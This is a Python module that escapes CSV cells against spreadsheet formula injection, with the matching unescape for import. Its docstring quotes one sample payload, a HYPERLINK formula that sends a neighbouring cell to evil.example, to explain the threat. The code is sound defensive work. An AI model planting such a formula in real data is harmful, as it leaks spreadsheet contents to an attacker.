"""CSV that a spreadsheet opens as data, never as formulas (CSV injection, OWASP's rule).

Names and addresses come from the public subscribe form: a name such as
``=HYPERLINK("http://evil.example/?x="&A2,"Open")`` would become a live formula in the admin's
spreadsheet, sending the cell beside it to whoever wrote it. Every CSV the product writes goes
through ``writer``: a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading apostrophe, which spreadsheets read as "this is text".

The import reads a cell as a spreadsheet shows it: ``unescape`` removes such an apostrophe
again, so an export imports back unchanged. To keep the two exact inverses, a value that
itself begins with an apostrophe followed by one of those characters (or another apostrophe)
is escaped as well: ``'=x`` is written ``''=x`` and read back as ``'=x``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


class _Sink(Protocol):
    def write(self, text: str, /) -> Any: ...


def escape(value: Any) -> Any:
    """The cell as written: text that a spreadsheet would run gets an apostrophe before it.

    Anything but text (numbers, None) is left to the csv module as it is.
    """
    if isinstance(value, str) and (value.startswith(FORMULA_STARTS) or unescape(value) != value):
        return QUOTE + value
    return value


def unescape(cell: str) -> str:
    """The value a cell written by ``escape`` stands for; any other cell as it is."""
    if cell.startswith(QUOTE) and cell[1:2] and cell[1:2] in (*FORMULA_STARTS, QUOTE):
        return cell[1:]
    return cell


class SafeWriter:
    """``csv.writer`` whose rows are escaped cell by cell; ``writerow`` returns what the
    sink's ``write`` returned (the line itself, for a streaming response)."""

    def __init__(self, out: _Sink, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Sink, **fmtparams: Any) -> SafeWriter:
    """The one way the product writes CSV."""
    return SafeWriter(out, **fmtparams)
